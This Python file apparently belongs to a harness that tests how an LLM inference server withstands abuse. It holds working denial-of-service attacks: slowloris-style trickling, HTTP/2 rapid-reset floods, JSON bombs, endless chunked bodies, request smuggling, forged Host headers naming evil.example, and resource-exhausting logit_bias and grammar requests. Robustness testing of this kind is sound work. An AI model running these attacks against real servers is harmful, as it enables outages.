"""Attacks over TCP: what one connection or one request may cost, tried from every side.

Each attack is a step that is repeated: (step, how many beside each other, pause in seconds).
"""

import asyncio
import functools
import json
import secrets

from target import abort, send, status_of

CHAT, TEXT = "/v1/chat/completions", "/v1/completions"
HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
#: Longest time that an attacker holds a connection; the server should end it before.
HOLD_S = 120


def prompt(text, **more):
    return {"prompt": text, "max_tokens": 64, **more}


async def until_closed(target, attack, reader):
    """Holds a connection until the server ends it."""
    while await asyncio.wait_for(reader.read(1 << 12), HOLD_S):
        pass
    target.count(attack, "closed")


async def silent_connections(target, attack):
    reader, writer = await target.connect()
    try:
        await until_closed(target, attack, reader)
    finally:
        abort(writer)


async def trickle(target, attack, first, rest):
    """Sends `first`, and then a byte of `rest` every half second."""
    reader, writer = await target.connect()
    try:
        writer.write(first)
        closed = asyncio.ensure_future(until_closed(target, attack, reader))
        for byte in rest:
            if (await asyncio.wait([closed], timeout=0.5))[0]:
                break
            writer.write(bytes([byte]))
        closed.cancel()
    finally:
        abort(writer)


async def slow_heads(target, attack):
    await trickle(target, attack, b"POST /v1/completions HTTP/1.1\r\n", b"X-A: " + b"a" * 240)


async def slow_bodies(target, attack):
    await trickle(target, attack, target.head(TEXT, 1_000_000), b" " * 240)


async def idle_http2(target, attack):
    reader, writer = await target.connect()
    try:
        writer.write(HTTP2)
        await until_closed(target, attack, reader)
    finally:
        abort(writer)


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def headers(stream, host, key):
    """HEADERS of `POST /`, which end the head and leave the body open."""
    fields = bytes([0x83, 0x86, 0x84, 0x41, len(host)]) + host
    bearer = b"Bearer " + key
    fields += bytes([0x0F, 0x08, len(bearer)]) + bearer  # authorization is entry 23 of the static table
    return frame(1, 4, stream, fields)


async def http2_rapid_resets(target, attack):
    reader, writer = await target.connect()
    try:
        writer.write(HTTP2)
        host, key = f"127.0.0.1:{target.port}".encode(), target.key.encode()
        closed = asyncio.ensure_future(until_closed(target, attack, reader))
        stream = 1
        while not closed.done():
            burst = b""
            for _ in range(200):
                burst += headers(stream, host, key) + frame(3, 0, stream, bytes([0, 0, 0, 8]))
                stream += 2
            writer.write(burst)
            await asyncio.sleep(0.05)
    finally:
        abort(writer)


async def unread_responses(target, attack):
    reader, writer = await target.connect(receive_bytes=4096, limit=1)
    try:
        writer.write(target.request(TEXT, prompt("tokens=100000", max_tokens=100_000, stream=True)))
        target.count(attack, await status_of(reader))
        writer.transport.pause_reading()
        # Only a write tells that the server has given up.
        for _ in range(HOLD_S):
            await asyncio.sleep(1)
            if writer.is_closing():
                return
    finally:
        abort(writer)


async def pipelined_unread(target, attack):
    """Large whole responses, asked for on one connection and never read."""
    _, writer = await target.connect(receive_bytes=4096, limit=1)
    try:
        writer.transport.pause_reading()
        request = target.request("/v1/models", None, method="GET", more="Connection: keep-alive\r\n")
        writer.write(request * 2000)
        await asyncio.sleep(30)
        target.count(attack, "held")
    finally:
        abort(writer)


@functools.cache
def bomb(kind, size):
    """JSON that is small on the wire and large once it is parsed."""
    return {
        "wide": b'{"prompt":"a","x":[' + b"0," * (size // 2) + b"0]}",
        "deep": b'{"prompt":"a","x":' + b"[" * (size // 2) + b"]" * (size // 2) + b"}",
        "nodes": b'{"prompt":"a","x":[' + b'{"":0},' * (size // 7) + b"0]}",
    }[kind]


async def json_bombs(target, attack):
    for kind in ("wide", "deep", "nodes"):
        await send(target, attack, target.request(TEXT, bomb(kind, 4_000_000)))


async def huge_bodies(target, attack):
    reader, writer = await target.connect()
    try:
        writer.write(target.head(TEXT, None, more="Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n"))
        answered = asyncio.ensure_future(status_of(reader))
        chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
        for _ in range(400):
            if answered.done():
                break
            writer.write(chunk)
            await writer.drain()
        target.count(attack, await answered)
    finally:
        abort(writer)


async def lengths_that_lie(target, attack):
    await send(target, attack, target.head(TEXT, 1 << 40) + b"{")


async def huge_heads(target, attack):
    more = "".join(f"X-{number}: {'a' * 4000}\r\n" for number in range(60))
    await send(target, attack, target.request(TEXT, prompt("a"), more=more))


async def wrong_keys(target, attack):
    await send(target, attack, target.request(TEXT, bomb("wide", 1_000_000), key=secrets.token_hex(16)))


@functools.cache
def body(build):
    """A large body, built once: what an attacker spends must not slow its other attacks."""
    return json.dumps(build()).encode()


def long_prompt():
    return prompt("a b" * 700_000)


def many_biases():
    bias = {str(token % 60_000 + token // 60_000): -1 for token in range(300_000)}
    return prompt("a", n=64, logit_bias=bias)


def most_biases():
    return prompt("a", n=64, logit_bias={str(token): -1 for token in range(300)})


def many_pieces():
    return {"prompt": "1 " * 1_500_000}


def many_tokens():
    return {"tokens": [5] * 1_000_000}


async def cancelled_tokenizing(target, attack):
    _, writer = await target.connect()
    try:
        writer.write(target.request(TEXT, body(long_prompt)))
        await asyncio.wait_for(writer.drain(), 10)
        await asyncio.sleep(0.05)
        target.count(attack, "left")
    finally:
        abort(writer)


async def slow_grammars(target, attack):
    words = [secrets.token_hex(16) for _ in range(400)]
    schema = {"type": "array", "items": {"enum": words}, "minItems": 50}
    form = {"type": "json_schema", "json_schema": {"name": "a", "schema": schema}}
    message = [{"role": "user", "content": secrets.token_hex(8)}]
    asked = {"messages": message, "n": 64, "max_tokens": 64, "response_format": form}
    await send(target, attack, target.request(CHAT, asked))


async def huge_logit_biases(target, attack):
    for build in (many_biases, most_biases):
        await send(target, attack, target.request(TEXT, body(build)))


async def big_tokenizing(target, attack):
    await send(target, attack, target.request("/tokenize", body(many_pieces)))
    await send(target, attack, target.request("/detokenize", body(many_tokens)))


async def guessed_answers(target, attack):
    for method in ("GET", "DELETE"):
        path = f"/v1/streams/{secrets.token_hex(16)}?token={secrets.token_hex(16)}"
        await send(target, attack, target.request(path, b"", method=method))


async def connection_churn(target, attack):
    for _ in range(20):
        _, writer = await target.connect()
        abort(writer)


async def one_greedy_key(target, attack):
    """64 answers at once with one key, each read to its end."""

    async def one():
        await send(target, attack, target.request(TEXT, prompt("tokens=100", max_tokens=100, stream=True)), read_all=True)

    await asyncio.gather(*(one() for _ in range(64)), return_exceptions=True)


async def priority_abuse(target, attack):
    asked = prompt("tokens=200", max_tokens=200, n=8, priority=-(2**31), stream=True)
    await send(target, attack, target.request(TEXT, asked), read_all=True)


async def forged_hosts(target, attack):
    forged = target.request(TEXT, prompt("a", max_tokens=1), more="Origin: http://evil.example\r\n")
    own = f"Host: 127.0.0.1:{target.port}".encode()
    await send(target, attack, forged.replace(own, b"Host: evil.example"))


async def smuggled_requests(target, attack):
    """Two lengths in one head, and a second request in what one of them calls the body."""
    inner = target.request("/v1/streams/0", b"", method="DELETE")
    head = target.head(TEXT, len(inner), more="Transfer-Encoding: chunked\r\n")
    await send(target, attack, head + b"0\r\n\r\n" + inner)


async def resumable_hoarding(target, attack):
    """Resumable answers that are begun, left behind, and kept by the server."""
    asked = prompt("tokens=2000", max_tokens=2000, stream=True, resumable=True)
    reader, writer = await target.connect()
    try:
        writer.write(target.request(TEXT, asked, more=f"Idempotency-Key: {json.dumps(secrets.token_hex(8))}\r\n"))
        target.count(attack, await status_of(reader))
    finally:
        abort(writer)


ATTACKS = {
    "silent connections": (silent_connections, 100, 0.5),
    "slow heads": (slow_heads, 40, 0.5),
    "slow bodies": (slow_bodies, 40, 0.5),
    "idle HTTP/2": (idle_http2, 40, 0.5),
    "HTTP/2 rapid resets": (http2_rapid_resets, 2, 1),
    "unread streams": (unread_responses, 8, 1),
    "unread pipelined responses": (pipelined_unread, 4, 1),
    "JSON bombs": (json_bombs, 2, 0.5),
    "endless bodies": (huge_bodies, 2, 0.5),
    "lengths that lie": (lengths_that_lie, 2, 0.5),
    "huge heads": (huge_heads, 2, 0.5),
    "wrong keys": (wrong_keys, 2, 0.2),
    "cancelled tokenizing": (cancelled_tokenizing, 2, 0.5),
    "slow grammars, n = 64": (slow_grammars, 1, 1),
    "huge logit_bias": (huge_logit_biases, 1, 1),
    "big /tokenize, /detokenize": (big_tokenizing, 2, 0.5),
    "guessed answers": (guessed_answers, 2, 0.2),
    "connection churn": (connection_churn, 2, 0.2),
    "64 answers by one key": (one_greedy_key, 1, 0.5),
    "priority abuse": (priority_abuse, 4, 0.5),
    "forged Host and Origin": (forged_hosts, 2, 0.5),
    "smuggled requests": (smuggled_requests, 2, 0.5),
    "hoarded resumable answers": (resumable_hoarding, 2, 0.5),
}
